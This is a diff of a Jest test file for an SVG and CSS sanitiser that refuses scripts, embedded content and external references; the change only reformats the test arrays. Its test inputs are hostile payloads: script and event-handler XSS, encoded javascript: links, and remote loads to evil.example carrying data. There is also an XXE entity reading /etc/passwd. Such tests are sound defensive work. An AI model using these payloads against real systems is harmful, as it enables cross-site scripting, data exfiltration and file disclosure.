@@ -67,7 +67,10 @@ describe('checkSvg accepts static drawing', () => {
     ['what Vega writes', VEGA],
     ['a prefixed SVG root', '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:rect width="1" height="1"/></s:svg>'],
     ['a byte order mark and comments around the root', `\ufeff<!-- made by hand --><svg ${SVG}/><!-- end -->\n`],
-    ['local references by href, xlink:href and url()', `<svg ${SVG} ${XLINK}><defs><path id="p" d="M0 0"/></defs><use href="#p"/><use xlink:href="#p"/><text><textPath href="#p">t</textPath></text><rect fill="url( &quot;#p&quot; )"/></svg>`],
+    [
+      'local references by href, xlink:href and url()',
+      `<svg ${SVG} ${XLINK}><defs><path id="p" d="M0 0"/></defs><use href="#p"/><use xlink:href="#p"/><text><textPath href="#p">t</textPath></text><rect fill="url( &quot;#p&quot; )"/></svg>`,
+    ],
   ])('%s', (_, text) => {
     expect(check(text)).toBeUndefined();
   });
@@ -77,55 +80,139 @@ describe('checkSvg refuses', () => {
   it.each([
     // scripts and event handlers
     ['a script', inSvg('<script>alert(1)</script>'), 'has a <script> element: scripts are code (line 1)'],
-    ['a script behind an SVG prefix', check(`<svg ${SVG}><x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script></svg>`), 'has a <x:script> element: scripts are code'],
-    ['a script in the XHTML namespace', inSvg('<g><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></g>'), 'has an element <script> in the namespace "http://www.w3.org/1999/xhtml"'],
-    ['a script hidden in metadata', inSvg('<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><script>alert(1)</script></rdf:RDF></metadata>'), 'has a <script> element'],
+    [
+      'a script behind an SVG prefix',
+      check(`<svg ${SVG}><x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script></svg>`),
+      'has a <x:script> element: scripts are code',
+    ],
+    [
+      'a script in the XHTML namespace',
+      inSvg('<g><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></g>'),
+      'has an element <script> in the namespace "http://www.w3.org/1999/xhtml"',
+    ],
+    [
+      'a script hidden in metadata',
+      inSvg('<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><script>alert(1)</script></rdf:RDF></metadata>'),
+      'has a <script> element',
+    ],
     ['an onload handler', inSvg('', ' onload="alert(1)"'), 'has an event handler attribute onload on <svg>: scripts are code'],
     ['an upper-case handler', inSvg('<rect ONCLICK="alert(1)"/>'), 'has an event handler attribute ONCLICK on <rect>'],
     ['a namespaced handler', inSvg('<rect xlink:onclick="alert(1)"/>'), 'has an event handler attribute xlink:onclick on <rect>'],
-    ['a handler on a metadata element', inSvg('<metadata><dc:title xmlns:dc="http://purl.org/dc/elements/1.1/" onclick="x">t</dc:title></metadata>'), 'has an event handler attribute onclick on <dc:title>'],
-    ['an animation that rewrites a link', inSvg('<rect><set attributeName="href" to="javascript:alert(1)"/></rect>'), 'has a <set> element: animations can rewrite attributes such as links'],
+    [
+      'a handler on a metadata element',
+      inSvg('<metadata><dc:title xmlns:dc="http://purl.org/dc/elements/1.1/" onclick="x">t</dc:title></metadata>'),
+      'has an event handler attribute onclick on <dc:title>',
+    ],
+    [
+      'an animation that rewrites a link',
+      inSvg('<rect><set attributeName="href" to="javascript:alert(1)"/></rect>'),
+      'has a <set> element: animations can rewrite attributes such as links',
+    ],
     ['an animate element', inSvg('<rect><animate attributeName="x" values="0;1" dur="1s"/></rect>'), 'has a <animate> element'],
-    ['an SVG Tiny handler element', inSvg('<handler type="application/ecmascript">alert(1)</handler>'), 'has a <handler> element: an SVG artifact may hold only static drawing'],
+    [
+      'an SVG Tiny handler element',
+      inSvg('<handler type="application/ecmascript">alert(1)</handler>'),
+      'has a <handler> element: an SVG artifact may hold only static drawing',
+    ],
     // embedded content
-    ['a foreignObject', inSvg('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>'), 'has a <foreignObject> element: it embeds HTML'],
+    [
+      'a foreignObject',
+      inSvg('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>'),
+      'has a <foreignObject> element: it embeds HTML',
+    ],
     ['an iframe in the SVG namespace', inSvg('<iframe src="https://evil.example"/>'), 'has a <iframe> element: it embeds a page'],
-    ['an HTML element', inSvg('<html:img xmlns:html="http://www.w3.org/1999/xhtml" src="https://evil.example/x.png"/>'), 'has an element <html:img> in the namespace "http://www.w3.org/1999/xhtml"'],
+    [
+      'an HTML element',
+      inSvg('<html:img xmlns:html="http://www.w3.org/1999/xhtml" src="https://evil.example/x.png"/>'),
+      'has an element <html:img> in the namespace "http://www.w3.org/1999/xhtml"',
+    ],
     ['an element of an unknown namespace', inSvg('<x:thing xmlns:x="urn:x"/>'), 'has an element <x:thing> in the namespace "urn:x"'],
     // external references
     ['a remote image', inSvg('<image href="https://evil.example/?d=secret"/>'), 'has a <image> element: it loads an image'],
     ['a data: image', inSvg('<image xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>'), 'has a <image> element'],
     ['a link', inSvg('<a href="https://evil.example"><text>click</text></a>'), 'has a <a> element: links are not allowed'],
-    ['a use of an external file', inSvg('<use href="https://evil.example/sprite.svg#icon"/>'), 'has href="https://evil.example/sprite.svg#icon" on <use>: only a reference to an element of the same file ("#id") is allowed'],
+    [
+      'a use of an external file',
+      inSvg('<use href="https://evil.example/sprite.svg#icon"/>'),
+      'has href="https://evil.example/sprite.svg#icon" on <use>: only a reference to an element of the same file ("#id") is allowed',
+    ],
     ['a use of a relative file', inSvg('<use xlink:href="sprite.svg#icon"/>'), 'has xlink:href="sprite.svg#icon" on <use>'],
     ['a javascript: href', inSvg('<use href="javascript:alert(1)"/>'), 'has href="javascript:alert(1)" on <use>'],
     ['an entity-encoded javascript: href', inSvg('<use href="&#106;avascript:alert(1)"/>'), 'has href="javascript:alert(1)" on <use>'],
-    ['an href in a renamed XLink prefix', inSvg('<use l:href="https://evil.example/x.svg" xmlns:l="http://www.w3.org/1999/xlink"/>'), 'has l:href="https://evil.example/x.svg" on <use>'],
+    [
+      'an href in a renamed XLink prefix',
+      inSvg('<use l:href="https://evil.example/x.svg" xmlns:l="http://www.w3.org/1999/xlink"/>'),
+      'has l:href="https://evil.example/x.svg" on <use>',
+    ],
     ['a gradient inherited from another file', inSvg('<linearGradient id="g" href="other.svg#g"/>'), 'has href="other.svg#g" on <linearGradient>'],
     ['xml:base', inSvg('<g xml:base="https://evil.example/"><use href="#a"/></g>'), 'has xml:base on <g>, which would point references elsewhere'],
-    ['a remote url() fill', inSvg('<rect fill="url(https://evil.example/?d=1#g)"/>'), 'has a fill attribute on <rect> that uses url(https://evil.example/?d=1#g): only url(#id)'],
-    ['a remote url() in a style attribute', inSvg('<rect style="fill: url(//evil.example/x)"/>'), 'has a style attribute on <rect> that uses url(//evil.example/x)'],
-    ['an image-set() mask', inSvg(`<rect mask="image-set('https://evil.example/x.png' 1x)"/>`), 'has a mask attribute on <rect> that uses the CSS function image-set(), which is not allowed'],
+    [
+      'a remote url() fill',
+      inSvg('<rect fill="url(https://evil.example/?d=1#g)"/>'),
+      'has a fill attribute on <rect> that uses url(https://evil.example/?d=1#g): only url(#id)',
+    ],
+    [
+      'a remote url() in a style attribute',
+      inSvg('<rect style="fill: url(//evil.example/x)"/>'),
+      'has a style attribute on <rect> that uses url(//evil.example/x)',
+    ],
+    [
+      'an image-set() mask',
+      inSvg(`<rect mask="image-set('https://evil.example/x.png' 1x)"/>`),
+      'has a mask attribute on <rect> that uses the CSS function image-set(), which is not allowed',
+    ],
     ['a CSS escape', inSvg('<rect style="fill: u\\72l(https://evil.example)"/>'), 'has a style attribute on <rect> that uses a CSS escape'],
-    ['an @import', inSvg('<style>@import url(https://evil.example/x.css);</style>'), 'has a <style> element that uses @import: only @media, @keyframes and @supports are allowed'],
+    [
+      'an @import',
+      inSvg('<style>@import url(https://evil.example/x.css);</style>'),
+      'has a <style> element that uses @import: only @media, @keyframes and @supports are allowed',
+    ],
     ['an @import by string', inSvg(`<style>@import 'https://evil.example/x.css';</style>`), 'has a <style> element that uses @import'],
     ['an @import split by a comment', inSvg('<style>@im<!-- -->port "https://evil.example/x.css";</style>'), 'has a <style> element that uses @import'],
-    ['a font loaded from elsewhere', inSvg('<style><![CDATA[@font-face { font-family: x; src: url(https://evil.example/f.woff) }]]></style>'), 'has a <style> element that uses @font-face'],
-    ['a remote url() in a style sheet', inSvg('<style>rect { fill: url(https://evil.example/#g) }</style>'), 'has a <style> element that uses url(https://evil.example/#g)'],
+    [
+      'a font loaded from elsewhere',
+      inSvg('<style><![CDATA[@font-face { font-family: x; src: url(https://evil.example/f.woff) }]]></style>'),
+      'has a <style> element that uses @font-face',
+    ],
+    [
+      'a remote url() in a style sheet',
+      inSvg('<style>rect { fill: url(https://evil.example/#g) }</style>'),
+      'has a <style> element that uses url(https://evil.example/#g)',
+    ],
     ['a "<" in a style sheet', inSvg('<style><![CDATA[ </style><script>alert(1)</script> ]]></style>'), 'has a <style> element that contains "<"'],
     // XML that loads or defines things
-    ['a DOCTYPE with an external entity', check(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg ${SVG}>&xxe;</svg>`), 'has a DOCTYPE: DTDs and entity declarations are not allowed (remove the <!DOCTYPE …> line) (line 1)'],
-    ['the DOCTYPE matplotlib writes', check(MATPLOTLIB.replace('<svg ', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg ')), 'has a DOCTYPE'],
+    [
+      'a DOCTYPE with an external entity',
+      check(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg ${SVG}>&xxe;</svg>`),
+      'has a DOCTYPE: DTDs and entity declarations are not allowed (remove the <!DOCTYPE …> line) (line 1)',
+    ],
+    [
+      'the DOCTYPE matplotlib writes',
+      check(MATPLOTLIB.replace('<svg ', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg ')),
+      'has a DOCTYPE',
+    ],
     ['an undeclared entity', inSvg('<text>&nbsp;</text>'), 'uses the entity "&nbsp;": only &lt; &gt; &amp; &quot; &apos; and character references are allowed'],
-    ['a style sheet processing instruction', check(`<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?><svg ${SVG}/>`), 'has a processing instruction (<?…?>)'],
+    [
+      'a style sheet processing instruction',
+      check(`<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?><svg ${SVG}/>`),
+      'has a processing instruction (<?…?>)',
+    ],
     ['a declaration that is not at the start', check(` <?xml version="1.0"?><svg ${SVG}/>`), 'has a processing instruction (<?…?>)'],
-    ['an encoding other than UTF-8', check(`<?xml version="1.0" encoding="ISO-8859-1"?><svg ${SVG}/>`), 'declares the encoding "ISO-8859-1"; an SVG artifact must be UTF-8'],
+    [
+      'an encoding other than UTF-8',
+      check(`<?xml version="1.0" encoding="ISO-8859-1"?><svg ${SVG}/>`),
+      'declares the encoding "ISO-8859-1"; an SVG artifact must be UTF-8',
+    ],
     ['bytes that are not UTF-8', checkSvg(Buffer.from([0x3c, 0x73, 0x76, 0x67, 0xff, 0x3e])), 'is not UTF-8 text'],
     ['a control character', inSvg('<text>\u0001</text>'), 'is not XML: it has the character U+0001'],
     ['a reference to a character XML does not allow', inSvg('<text>&#0;</text>'), 'has a character reference &#0; to a character XML does not allow'],
     // not an SVG document
     ['HTML', check('<html><body onload="alert(1)"></body></html>'), 'has <html> as its root, not an <svg> element in the SVG namespace'],
-    ['an svg root without the SVG namespace', check('<svg><script>alert(1)</script></svg>'), 'has <svg> as its root, not an <svg> element in the SVG namespace'],
+    [
+      'an svg root without the SVG namespace',
+      check('<svg><script>alert(1)</script></svg>'),
+      'has <svg> as its root, not an <svg> element in the SVG namespace',
+    ],
     ['another SVG element as the root', check(`<g ${SVG}/>`), `has <g> as its root; an SVG artifact's root is <svg>`],
     ['nothing', check('   '), 'has no <svg> element'],
     ['text outside the root', check(`<svg ${SVG}/>trailing`), 'has text outside its <svg> element'],
@@ -152,7 +239,9 @@ describe('checkSvg refuses', () => {
 
 describe('checkCss', () => {
   it('allows colours, transforms, gradients, filters and local references', () => {
-    expect(checkCss('fill: rgb(1 2 3); transform: translate(1px) rotate(2deg); mask: url(#m); filter: drop-shadow(1px 1px 2px hsl(0 0% 0%))', true)).toBeUndefined();
+    expect(
+      checkCss('fill: rgb(1 2 3); transform: translate(1px) rotate(2deg); mask: url(#m); filter: drop-shadow(1px 1px 2px hsl(0 0% 0%))', true),
+    ).toBeUndefined();
     expect(checkCss('@media (prefers-color-scheme: dark) { rect { fill: #000 } } @keyframes k { from { opacity: 0 } }', true)).toBeUndefined();
   });
 
